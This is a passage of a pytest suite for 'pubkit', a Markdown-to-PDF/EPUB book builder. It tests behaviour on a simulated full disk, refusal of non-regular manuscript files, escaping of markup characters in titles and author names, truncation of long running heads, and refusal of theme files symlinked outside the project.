    """pubkit in a process that may write no file larger than `limit` bytes: a write past it
    fails with EFBIG, as a full disk fails one with ENOSPC, in the middle of the file."""

    def limit_writes():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [sys.executable, "-m", "pubkit.cli", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        preexec_fn=limit_writes,
        timeout=300,
    )


def _big_book(project: Project, name: str, text: str = "Body.") -> None:
    """A manuscript whose outputs are each well over 1 MB (a noise image does not compress),
    while WeasyPrint's temporary font files stay under 700 kB."""
    import random

    noise = Image.frombytes("RGB", (700, 700), random.Random(1).randbytes(700 * 700 * 3))
    noise.save(project.root / "manuscripts" / "images" / "noise.png")
    project.manuscript(name, HEAD + f"## One\n\n{text}\n\n![Noise](images/noise.png)\n")


def test_a_disk_that_fills_up_mid_write_leaves_earlier_outputs_intact(project: Project):
    _big_book(project, "full")
    out = project.root / "output"
    out.mkdir()
    old = {out / "full.pdf": b"previous pdf", out / "full.epub": b"previous epub"}
    for path, data in old.items():
        path.write_bytes(data)
    result = _run_with_file_size_limit(["build", "manuscripts/full.md"], project.root, 1_000_000)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    first = lines_of(result.stderr)[0]
    assert first == "manuscripts/full.md:1: cannot write output/full.epub: File too large", first
    for path, data in old.items():
        assert path.read_bytes() == data
    assert sorted(p.name for p in _listing(out)) == ["full.epub", "full.pdf"]  # no temporary files left


def test_a_disk_that_fills_up_after_the_first_output_changes_nothing(project: Project):
    """All outputs of a manuscript are replaced together, or none is."""
    _big_book(project, "half")
    out = project.root / "output"
    first = run_pubkit("build", "manuscripts/half.md", cwd=project.root)
    assert first.returncode == 0, first.stderr
    sizes = {p.name: p.stat().st_size for p in _listing(out)}
    old = {p: p.read_bytes() for p in _listing(out)}
    _big_book(project, "half", "Body changed.")
    limit = (min(sizes.values()) + max(sizes.values())) // 2  # the smaller output fits, the larger not
    assert 700_000 < min(sizes.values()) < limit < max(sizes.values()), sizes
    result = _run_with_file_size_limit(["build", "manuscripts/half.md"], project.root, limit)
    assert result.returncode == 1
    assert "File too large" in result.stderr and "Traceback" not in result.stderr
    for path, data in old.items():
        assert path.read_bytes() == data, path.name
    assert sorted(p.name for p in _listing(out)) == sorted(sizes)


def test_a_full_temporary_folder_while_laying_out_the_pdf_is_reported(project: Project):
    project.manuscript("fonts", HEAD + "Body.\n")
    result = _run_with_file_size_limit(
        ["build", "manuscripts/fonts.md", "--format", "pdf"], project.root, 100_000
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr
    first = lines_of(result.stderr)[0]
    assert first.startswith("manuscripts/fonts.md:1: PDF: cannot write a temporary file"), first
    assert first.endswith("File too large"), first
    assert not (project.root / "output").exists()


def test_a_manuscript_that_is_not_a_regular_file_is_refused(project: Project):
    import os

    os.mkfifo(project.root / "manuscripts" / "pipe.md")
    result = run_pubkit("build", "manuscripts/pipe.md", cwd=project.root)
    assert result.returncode == 1
    assert "manuscripts/pipe.md:1: not a regular file" in result.stderr


def test_a_name_with_markup_characters_is_escaped_everywhere(project: Project):
    name = 'O\'Brien <b>&amp; "Sons"</b> & Co'
    title = "Fish & Chips <i>\"quoted\"</i> 'single'"
    quoted_name = name.replace("\\", "\\\\").replace('"', '\\"')
    quoted_title = title.replace('"', '\\"')
    project.manuscript(
        "escaped",
        f'---\ntitle: "{quoted_title}"\nauthors:\n  - name: "{quoted_name}"\n'
        f'reviewers:\n  - name: "{quoted_name}"\n    role: Medical Reviewer\n---\n\n'
        '## Fish & Chips <3 for "Sons"\n\nBody.\n',
    )
    result = run_pubkit("build", "manuscripts/escaped.md", cwd=project.root)
    assert result.returncode == 0, result.stderr
    epub = epub_entries(project.root / "output" / "escaped.epub")
    opf = etree.fromstring(epub["EPUB/content.opf"])
    ns = {"dc": "http://purl.org/dc/elements/1.1/"}
    assert opf.findtext(".//dc:title", namespaces=ns) == title
    assert opf.findtext(".//dc:creator", namespaces=ns) == name
    assert opf.findtext(".//dc:contributor", namespaces=ns) == name
    expected = {
        "EPUB/nav.xhtml": "Fish & Chips <3 for \u201cSons\u201d",
        "EPUB/titlepage.xhtml": name,
        "EPUB/credits.xhtml": name,
        "EPUB/toc.ncx": title,
        "EPUB/body.xhtml": title,  # its aria-label
    }
    for doc, text in expected.items():
        root = etree.fromstring(epub[doc])  # well-formed
        found = "".join(root.itertext()) + " ".join(v for el in root.iter() for v in el.attrib.values())
        assert text in found, doc
        assert not list(root.iter("{*}b", "{*}i")), doc  # the markup is text, not elements
    with pikepdf.open(project.root / "output" / "escaped.pdf") as pdf:
        assert str(pdf.docinfo["/Title"]) == title
        assert str(pdf.docinfo["/Author"]) == name
        xmp = etree.fromstring(pdf.Root.Metadata.read_bytes())
        assert name in "".join(xmp.itertext())


def test_a_long_title_builds_and_its_running_head_stays_one_line(project: Project):
    title = ("A very long title that goes on " * 16).strip()[:490]
    project.manuscript(
        "long", f"---\ntitle: {title}\nauthor: A\n---\n\n" + "## Part\n\n" + "Text. " * 900 + "\n"
    )
    result = run_pubkit("build", "manuscripts/long.md", "--format", "pdf", cwd=project.root)
    assert result.returncode == 0, result.stderr
    pages = subprocess.run(
        ["pdftotext", "-layout", str(project.root / "output" / "long.pdf"), "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split("\f")
    head = [line for line in pages[1].splitlines() if line.strip()][0]
    assert head.strip().startswith("A very long title") and head.strip().endswith("\u2026"), head


def test_a_theme_file_linking_outside_the_project_is_refused(project: Project):
    import shutil

    from pubkit.rendering.theme import bundled_styles

    theme = project.root / "styles" / "linked"
    shutil.copytree(bundled_styles() / "default", theme)
    (theme / "print.css").unlink()
    (theme / "print.css").symlink_to(project.outside / "canary.css")
    (project.root / "pubkit.toml").write_text('theme = "linked"\n')
    project.manuscript("linked", HEAD + "Body.\n")
    result = run_pubkit("build", "manuscripts/linked.md", cwd=project.root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "styles/linked/print.css: theme file leads outside the project folder" in result.stderr
    assert not (project.root / "output").exists()
